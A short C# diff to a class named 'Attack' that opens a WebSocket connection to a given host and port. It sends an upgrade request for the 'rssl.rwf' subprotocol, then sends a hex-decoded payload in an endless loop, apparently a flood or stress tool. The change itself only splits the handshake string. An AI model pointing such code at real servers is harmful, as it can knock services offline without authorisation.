@@ -54,7 +54,8 @@ internal sealed class Attack(string host, int port)
         await using NetworkStream stream = await ConnectAsync(stop);
         await SendAsync(
             stream,
-            "GET /WebSocket HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nConnection: upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: rssl.rwf\r\n\r\n"u8.ToArray(),
+            ("GET /WebSocket HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nConnection: upgrade\r\nSec-WebSocket-Key: "u8
+                + "dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: rssl.rwf\r\n\r\n"u8).ToArray(),
             stop);
         await SendForeverAsync(stream, Convert.FromHexString(hex), stop);
     }
